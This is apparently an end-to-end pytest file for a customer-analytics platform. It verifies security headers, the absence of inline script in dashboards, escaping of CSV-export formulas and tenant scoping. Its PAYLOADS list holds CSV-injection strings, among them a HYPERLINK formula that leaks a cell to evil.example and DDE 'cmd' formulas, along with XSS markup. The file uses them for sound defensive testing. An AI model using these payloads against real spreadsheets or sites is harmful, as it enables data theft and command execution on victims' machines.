"""What a browser gets from the platform: pages that cannot be framed, sniffed or made to
run inline script, customer text shown as text, and CSV exports that a spreadsheet opens
without running a formula."""

from __future__ import annotations

import csv
import io
import re
import uuid
from importlib.resources import files

import httpx
import pytest
from sqlalchemy import Engine, text

from shared.db import session_scope
from tests.conftest import MakeKey
from tests.segment.builders import add_membership, create_run, create_segment
from tests.shared.conftest import PlatformApi
from tests.support.http import auth, tenant_of

pytestmark = pytest.mark.e2e

APIS = ("ingest", "segment", "nlp", "personalize")
DASHBOARDS = ("segment", "personalize")
FRAMING_HEADERS = {
    "x-frame-options": "DENY",
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
}
# Customer ids as a hostile source might send them: formulas and markup.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
    "<script>window.__xss=1</script>",
    '<img src=x onerror="window.__xss=1">',
    "plain-customer",
)
FORMULA_START = re.compile(r"^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")


def _csp(answer: httpx.Response) -> dict[str, str]:
    policy = answer.headers["content-security-policy"]
    return {
        part.strip().split(" ", 1)[0]: part.strip().partition(" ")[2]
        for part in policy.split(";")
        if part.strip()
    }


@pytest.mark.parametrize("page", ["/docs", "/redoc"])
@pytest.mark.parametrize("name", APIS)
def test_every_docs_page_refuses_framing_sniffing_and_referrers(
    platform_apis: dict[str, PlatformApi], name: str, page: str
) -> None:
    answer = httpx.get(f"{platform_apis[name].base}{page}", timeout=30)
    assert answer.status_code == 200
    for header, value in FRAMING_HEADERS.items():
        assert answer.headers.get(header) == value, (header, answer.headers)
    assert _csp(answer)["frame-ancestors"] == "'none'"


@pytest.mark.parametrize("name", DASHBOARDS)
def test_dashboards_allow_no_inline_script(
    platform_apis: dict[str, PlatformApi], name: str
) -> None:
    answer = httpx.get(f"{platform_apis[name].base}/dashboard", timeout=30)
    assert answer.status_code == 200
    for header, value in FRAMING_HEADERS.items():
        assert answer.headers.get(header) == value, header
    policy = _csp(answer)
    assert policy["script-src"] == "'self'"
    assert "unsafe-inline" not in policy.get("default-src", "")
    assert policy["frame-ancestors"] == "'none'"
    html = answer.text
    assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html), "an inline script"
    assert not re.search(r"\son[a-z]+\s*=", html, re.I), "an inline event handler"
    for script in re.findall(r'<script[^>]*\bsrc="([^"]+)"', html):
        asset = httpx.get(f"{platform_apis[name].base}{script}", timeout=30)
        assert asset.status_code == 200
        assert asset.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("service", DASHBOARDS)
def test_dashboard_scripts_set_server_text_as_text_only(service: str) -> None:
    script = (files(f"services.{service}.dashboard") / "dashboard.js").read_text()
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval("):
        assert sink not in script, f"{service}'s dashboard uses {sink}"
    assert "textContent" in script


def _customer_pks(engine: Engine, tenant_id: int) -> list[int]:
    with engine.connect() as conn:
        rows = conn.execute(
            text("SELECT id FROM customer WHERE tenant_id = :t ORDER BY id"), {"t": tenant_id}
        )
        return [int(pk) for pk in rows.scalars()]


def test_payloads_sent_through_ingest_come_out_as_text_in_the_json_and_the_csv_export(
    platform_apis: dict[str, PlatformApi], make_key: MakeKey, engine: Engine
) -> None:
    tenant = f"hostile-{uuid.uuid4().hex[:10]}"
    writer = make_key("ingest:write", tenant=tenant)
    reader = make_key("segments:read", tenant=tenant)
    tenant_id = tenant_of(engine, writer)
    records = [{"customer_id": payload} for payload in PAYLOADS]
    stored = httpx.post(
        f"{platform_apis['ingest'].base}/v1/customers",
        json=records,
        headers=auth(writer),
        timeout=30,
    )
    assert stored.status_code == 200, stored.text
    assert stored.json()["accepted"] == len(PAYLOADS)
    with session_scope(engine) as session:
        run = create_run(session, tenant_id=tenant_id, active=True)
        assert run.id is not None
        create_segment(session, tenant_id=tenant_id, run_id=run.id, key="s1", size=len(PAYLOADS))
        for pk in _customer_pks(engine, tenant_id):
            add_membership(session, tenant_id=tenant_id, customer_pk=pk, run_id=run.id, key="s1")
    segment = platform_apis["segment"].base

    members = httpx.get(
        f"{segment}/v1/segments/s1/customers", headers=auth(reader), timeout=30
    ).json()
    assert sorted(m["customer_id"] for m in members["items"]) == sorted(PAYLOADS)

    export = httpx.get(
        f"{segment}/v1/segments/s1/export?format=csv&columns=customer_id,since,clv,p_alive",
        headers=auth(reader),
        timeout=30,
    )
    assert export.status_code == 200, export.text
    assert export.headers["content-type"].startswith("text/csv")
    assert export.headers["x-content-type-options"] == "nosniff"
    assert export.headers["content-disposition"] == 'attachment; filename="segment-s1.csv"'
    rows = list(csv.reader(io.StringIO(export.text)))
    assert rows[0] == ["customer_id", "since", "clv", "p_alive"]
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if FORMULA_START.match(cell)]
    exported = sorted(row[0] for row in rows[1:])
    expected = sorted("'" + p if FORMULA_START.match(p) else p for p in PAYLOADS)
    assert exported == expected
    # Markup stays what it was: the export is data, not a page.
    assert "<script>window.__xss=1</script>" in exported


def test_the_csv_export_is_scoped_and_tenant_bound(
    platform_apis: dict[str, PlatformApi], make_key: MakeKey, engine: Engine
) -> None:
    segment = platform_apis["segment"].base
    url = f"{segment}/v1/segments/s1/export?format=csv&columns=customer_id,since,clv,p_alive"
    assert httpx.get(url, timeout=30).status_code == 401
    assert httpx.get(url, headers=auth(make_key("ingest:write")), timeout=30).status_code == 403
    # Another tenant without an active segmentation: nothing of anyone's.
    stranger = httpx.get(url, headers=auth(make_key("segments:read")), timeout=30)
    assert stranger.status_code == 404
    assert "customer_id" not in stranger.text
    bad_key = httpx.get(
        f"{segment}/v1/segments/{'x' * 33}/export",
        headers=auth(make_key("segments:read")),
        timeout=30,
    )
    assert bad_key.status_code == 422
    assert bad_key.json()["errors"][0]["field"] == "key"
